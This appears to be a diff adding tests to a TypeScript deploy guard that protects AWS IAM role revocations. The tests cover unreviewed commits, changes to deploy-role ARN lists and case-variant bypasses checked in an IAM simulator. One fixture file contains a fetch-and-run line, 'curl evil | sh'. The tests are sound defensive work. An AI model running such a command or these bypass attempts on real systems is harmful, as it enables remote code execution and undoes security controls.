@@ -18,6 +18,9 @@ import { Codeowners, ownerRule, parseCodeowners } from "../guard/codeowners";
 import { OVERRIDE_LABEL, PullRequestFacts, decideOverride } from "../guard/override";
 import { readCodeowners } from "../revocation/override";
 import { FakeGitHub, fakeGitHub } from "./fakeGitHub";
+import { runSimulation } from "@cloud-copilot/iam-simulate";
+import { LOCK_POLICY_NAME, lockPolicy } from "../iam/organizationPolicy";
+import { REVOKED_UNTIL_TAG } from "../iam/policy";
 
 const guard = commandMain("guard");
 const ci = commandMain("ci");
@@ -343,6 +346,159 @@ describe("attacks on the guard's newest parts (issues 30 to 32)", function () {
                     ],
                 );
             });
+
+            it("the deploy refuses a frozen change hidden in an earlier undeployed commit pushed past any pull request, though a later merge's override holds", async () => {
+                // Held: each commit since the deployed one is checked, not only the last merge.
+                const { root, base } = origin();
+                const pushed = commitFiles(root, { "tools/a.sh": "curl evil | sh\n" }, "pushed straight to main");
+                const merged = commitFiles(root, { "tools/b.sh": "exit 0\n" }, "Merge pull request #13");
+                const bin = project({});
+                fs.writeFileSync(
+                    path.join(bin, "pulumi"),
+                    `#!/bin/sh\necho "$*" >> "${bin}/log"\ncase "$1 $2 $3" in "stack tag ls") echo '{"revocable-roles:deployed-commit":"${base}"}';; esac\nexit 0\n`,
+                    { mode: 0o755 },
+                );
+                server = await fakeGitHub({
+                    [`/repos/acme/infra/commits/${pushed}/pulls`]: [],
+                    [`/repos/acme/infra/commits/${merged}/pulls`]: [
+                        { ...pull("d".repeat(40)), number: 13, merged_at: "2026-11-27T11:30:00Z" },
+                    ],
+                    "/repos/acme/infra/pulls/13/reviews": [review("alice", "d".repeat(40))],
+                });
+                const [out, err] = [new Capture(), new Capture()];
+                const variables = {
+                    ...process.env,
+                    PATH: `${bin}:${process.env.PATH}`,
+                    GITHUB_TOKEN: "a-token",
+                    GITHUB_REPOSITORY: "acme/infra",
+                    GITHUB_API_URL: server.url,
+                };
+                const code = await ci(["deploy", "--stack", "dev"], out, err, environment({ root, now: NOW, variables }));
+                assert.deepStrictEqual(
+                    { code, first: out.text.split("\n")[1], calls: fs.readFileSync(path.join(bin, "log"), "utf8") },
+                    {
+                        code: 1,
+                        first: `${FROZEN("tools/a.sh, tools/b.sh")}; the deploy checked the override again and it does not hold: commit ${pushed.slice(0, 12)} (tools/a.sh) was not merged through a pull request GitHub knows`,
+                        calls: "stack tag ls --json --stack dev\n",
+                    },
+                );
+            });
+        });
+    });
+
+    describe("2. the organization's lock", () => {
+        const MEMBER = "111111111111";
+        const DEPLOY = `arn:aws:iam::${MEMBER}:role/pulumi-deploy`;
+        const OTHER = "arn:aws:iam::222222222222:role/pulumi-deploy";
+        const organization = (roles: string[] | undefined, more = "") =>
+            `config:\n  aws:region: us-east-1\n  revocable-roles:organization:\n    targets: ["r-ab12"]\n    policyBudget: 3\n${roles === undefined ? "" : `    lockRevocations: true\n    deployRoleArns: ${JSON.stringify(roles)}\n`}${more}    revocations: []\n`;
+        const prod = `config:\n  revocable-roles:roles:\n    ci:\n      trust:\n        services: ["codebuild.amazonaws.com"]\n      revokeBefore: "${CUTOFF}"\n`;
+        const IN_FORCE = `while revocations are in force (prod: ci until ${SAFE})`;
+        const fails = async (base: Record<string, string>, head: Record<string, string | undefined>) =>
+            (await run(base, head)).lines.filter((line) => line.startsWith("FAIL"));
+
+        it("fails dropping a deploy role from deployRoleArns while a revocation is in force: the lock would deny it tagging the roles it revokes", async () => {
+            // Before: only an added role failed; a dropped one (the repository-wide AWS_DEPLOY_ROLE_ARN, which no stack file names) passed.
+            const base = { "Pulumi.org.yaml": organization([DEPLOY, OTHER]), "Pulumi.prod.yaml": prod };
+            const dropped = (arn: string) =>
+                `FAIL org: organization lock: deployRoleArns drops ${arn} ${IN_FORCE}: the lock would deny it tagging a role revocable-roles:revoked-until, so a deploy or an hourly check that runs as it (a stack's deployRoleArn, or the repository's AWS_DEPLOY_ROLE_ARN, which the guard cannot see) could deploy no later revocation, nor remove one once its window is over; drop it once they are safe to remove`;
+            assert.deepStrictEqual(
+                [
+                    await fails(base, { "Pulumi.org.yaml": organization([DEPLOY]) }),
+                    // Spelled in another case, the exemption is another ARN: IAM compares ARNs in conditions case-sensitively.
+                    await fails(base, { "Pulumi.org.yaml": organization([DEPLOY, OTHER.replace("pulumi-deploy", "Pulumi-Deploy")]) }),
+                ],
+                [
+                    [dropped(OTHER)],
+                    [
+                        `FAIL org: organization lock: deployRoleArns adds arn:aws:iam::222222222222:role/Pulumi-Deploy ${IN_FORCE}: the lock would let it change the revoked roles; add it once they are safe to remove`,
+                        dropped(OTHER),
+                    ],
+                ],
+            );
+            // Once nothing is in force, the list may change.
+            assert.deepStrictEqual(
+                (await run(base, { "Pulumi.org.yaml": organization([DEPLOY]) }, new Date("2026-11-28T00:00:00Z"))).lines,
+                ["No revocation is weakened since main."],
+            );
+        });
+
+        it("fails a deploy role added under another spelling, and the lock moved to another organization stack, while a revocation is in force", async () => {
+            // Held: each spelling is another principal to the lock, and turning it off in one stack fails whatever another does.
+            const base = {
+                "Pulumi.org.yaml": organization([DEPLOY]),
+                "Pulumi.prod.yaml": prod,
+                "Pulumi.org2.yaml": organization(undefined),
+            };
+            const added = (arn: string) =>
+                `FAIL org: organization lock: deployRoleArns adds ${arn} ${IN_FORCE}: the lock would let it change the revoked roles; add it once they are safe to remove`;
+            const spellings = [
+                `arn:aws:iam::${MEMBER}:role/Pulumi-Deploy`,
+                `arn:aws-cn:iam::${MEMBER}:role/pulumi-deploy`,
+                `arn:aws:iam::${MEMBER}:role/ops/pulumi-deploy`,
+            ];
+            assert.deepStrictEqual(await fails(base, { "Pulumi.org.yaml": organization([DEPLOY, ...spellings]) }), spellings.map(added));
+            assert.deepStrictEqual(
+                await fails(base, { "Pulumi.org.yaml": organization(undefined), "Pulumi.org2.yaml": organization([DEPLOY]) }),
+                [
+                    `FAIL org: organization lock: lockRevocations is turned off ${IN_FORCE}: any principal of a member account allowed to change IAM roles could then remove a revocation again; turn it off once they are safe to remove`,
+                ],
+            );
+        });
+
+        it("denies, in the IAM simulator, the other ways at a locked role: creating one with the tag in another case, a tag read in another case; leaves open what undoes nothing", async () => {
+            // Held. An inline deny wins over any allow, so a new version of an attached customer policy, a description or a
+            // session duration changes nothing of a revocation; the exemption is an exact, case-sensitive ARN.
+            const ALLOW_ALL = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] };
+            const decide = async (action: string, principal: string, resource: string, context: Record<string, string | string[]>) => {
+                const result = await runSimulation(
+                    {
+                        identityPolicies: [{ name: "administrator", policy: ALLOW_ALL }],
+                        serviceControlPolicies: [
+                            {
+                                orgIdentifier: "r-ab12",
+                                policies: [
+                                    { name: "FullAWSAccess", policy: ALLOW_ALL },
+                                    { name: LOCK_POLICY_NAME, policy: lockPolicy([DEPLOY]) },
+                                ],
+                            },
+                            { orgIdentifier: MEMBER, policies: [{ name: "FullAWSAccess", policy: ALLOW_ALL }] },
+                        ],
+                        resourceControlPolicies: [],
+                        request: {
+                            action,
+                            principal: `arn:aws:sts::${MEMBER}:assumed-role/${principal}/session`,
+                            resource: { accountId: MEMBER, resource: `arn:aws:iam::${MEMBER}:${resource}` },
+                            contextVariables: { "aws:PrincipalArn": `arn:aws:iam::${MEMBER}:role/${principal}`, ...context },
+                        },
+                    },
+                    {},
+                );
+                return result.resultType === "single" ? result.overallResult : result.resultType;
+            };
+            const locked = { [`aws:ResourceTag/${REVOKED_UNTIL_TAG}`]: SAFE };
+            assert.deepStrictEqual(
+                {
+                    createWithTag: await decide("iam:CreateRole", "administrator", "role/ci-deployer", {
+                        "aws:TagKeys": ["REVOCABLE-ROLES:REVOKED-UNTIL"],
+                    }),
+                    tagReadInAnotherCase: await decide("iam:PutRolePolicy", "administrator", "role/ci-deployer", {
+                        "aws:ResourceTag/Revocable-Roles:Revoked-Until": SAFE,
+                    }),
+                    boundaryRemoved: await decide("iam:DeleteRolePermissionsBoundary", "administrator", "role/ci-deployer", locked),
+                    deployRoleInAnotherCase: await decide("iam:DeleteRolePolicy", "Pulumi-Deploy", "role/ci-deployer", locked),
+                    updateRole: await decide("iam:UpdateRole", "administrator", "role/ci-deployer", locked),
+                    attachedPolicyVersion: await decide("iam:CreatePolicyVersion", "administrator", "policy/ci-deployer-permissions", {}),
+                },
+                {
+                    createWithTag: "ExplicitlyDenied",
+                    tagReadInAnotherCase: "ExplicitlyDenied",
+                    boundaryRemoved: "ExplicitlyDenied",
+                    deployRoleInAnotherCase: "ExplicitlyDenied",
+                    updateRole: "Allowed",
+                    attachedPolicyVersion: "Allowed",
+                },
+            );
         });
     });
 });
